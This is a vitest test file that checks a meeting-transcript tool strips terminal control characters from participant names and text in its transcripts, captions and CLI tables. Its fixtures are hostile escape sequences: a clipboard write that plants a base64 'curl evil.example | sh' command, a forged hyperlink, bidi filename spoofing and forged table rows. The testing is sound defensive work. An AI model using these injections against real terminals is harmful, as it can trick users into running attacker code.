/**
 * Participants' names and words reach the operator's terminal and caption players:
 * every text output (text, SRT, VTT transcripts; CLI tables, fields, lines, errors)
 * is free of control characters, while JSON keeps the exact text.
 */
import { createRequire } from 'node:module';
import SrtParser from 'srt-parser-2';
import { describe, expect, it } from 'vitest';
import { WebVTTParser } from 'webvtt-parser';
import { oneLine, renderFields, renderTable } from '../../cli/table';
import type { UtteranceView } from '../../lambdas/core/read/read-api-contract';
import { toPlainText, toSrt, toWebVtt } from '../../lambdas/core/read/transcript-formats';
import { escapeControlsInJson, withoutControls } from '../../lambdas/core/text/control-characters';
import { controlsIn } from '../fixtures/control-characters';

const entities = createRequire(import.meta.url)('webvtt-parser/html-entities.json') as Record<string, string>;

/** OSC 52 (writes the clipboard), OSC 8 (a forged link), C1 CSI, BEL, CR overwriting, DEL, a bidi override. */
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const LINK = '\u001b]8;;https://evil.example/\u001b\\Open the minutes\u001b]8;;\u001b\\';
const C1_CSI = '\u009b2J';
const HOSTILE_NAME = `Mallory${CLIPBOARD}${C1_CSI} \u202eexe.txt\u202c`;
const HOSTILE_TEXT = `Hello${LINK}\rOverwritten\u007f\u0000 line\u2066two\u2069`;

function utterance(offsetMs: number, speaker: string, text: string): UtteranceView {
  return {
    speaker_name: speaker,
    speaker_uuid: 'uuid-1',
    timestamp_ms: 1_767_225_600_000 + offsetMs,
    duration_ms: 1_000,
    text,
    offset_ms: offsetMs,
  };
}
const meeting = [utterance(1_000, HOSTILE_NAME, HOSTILE_TEXT), utterance(3_000, 'Ada', 'fine')];

describe('the shared sanitizer', () => {
  it('removes every control sequence introducer and keeps the visible text', () => {
    expect(withoutControls(HOSTILE_NAME, { keepLines: false })).toBe(
      'Mallory]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==2J exe.txt',
    );
    expect(withoutControls(HOSTILE_TEXT, { keepLines: false })).toBe(
      'Hello]8;;https://evil.example/\\Open the minutes]8;;\\ Overwritten linetwo',
    );
  });

  it('keeps newlines and tabs where lines are allowed, and never a carriage return', () => {
    expect(withoutControls('a\tb\r\nc\u001b[2Kd\n', { keepLines: true })).toBe('a\tb\nc[2Kd\n');
  });

  it('keeps right-to-left text and its marks, emoji and accents', () => {
    const name = 'שלום\u200f עולם 👩🏽‍💻 Zoë';
    expect(withoutControls(name, { keepLines: false })).toBe(name);
  });

  it('escapes in JSON what JSON.stringify leaves raw, and the value parses back exactly', () => {
    const value = { name: HOSTILE_NAME, text: HOSTILE_TEXT };
    const json = escapeControlsInJson(JSON.stringify(value, null, 2));
    expect(controlsIn(json)).toEqual([]);
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe.each([
  ['text', toPlainText],
  ['SubRip', toSrt],
  ['WebVTT', toWebVtt],
])('the %s transcript of a hostile participant', (_format, render) => {
  it('holds no control character, only its line breaks', () => {
    const document = render(meeting);
    expect(controlsIn(document)).toEqual([]);
    expect(document).toContain('Mallory');
    expect(document).toContain('Open the minutes');
  });
});

describe('captions of a hostile participant still parse', () => {
  it('as SubRip, two cues with the cleaned text', () => {
    const cues = new SrtParser().fromSrt(toSrt(meeting));
    expect(cues).toHaveLength(2);
    expect(cues[0]?.text).toBe(
      `${withoutControls(HOSTILE_NAME, { keepLines: false })}: ${withoutControls(HOSTILE_TEXT, { keepLines: false })}`,
    );
  });

  it('as WebVTT, two cues without errors', () => {
    const parsed = new WebVTTParser(entities).parse(toWebVtt(meeting), 'metadata');
    expect(parsed.errors).toEqual([]);
    expect(parsed.cues).toHaveLength(2);
  });
});

describe('CLI tables and fields', () => {
  it('show a hostile value on its own row, one line, without controls', () => {
    const rows = [
      { bot: 'bot_1', name: `${HOSTILE_NAME}\nbot_forged  ended` },
      { bot: 'bot_2', name: 'Ada' },
    ];
    const table = renderTable(
      [
        { header: 'BOT', value: (r: (typeof rows)[number]) => r.bot },
        { header: 'NAME', value: (r: (typeof rows)[number]) => r.name },
      ],
      rows,
    );
    expect(controlsIn(table)).toEqual([]);
    expect(table.split('\n')).toHaveLength(3);
    expect(table).not.toMatch(/^bot_forged/m);
  });

  it('show hostile fields and samples as one line each', () => {
    const fields = renderFields([
      ['name', HOSTILE_NAME],
      ['said', HOSTILE_TEXT],
    ]);
    expect(controlsIn(fields)).toEqual([]);
    expect(fields.split('\n')).toHaveLength(2);
    expect(controlsIn(oneLine(HOSTILE_TEXT))).toEqual([]);
  });
});
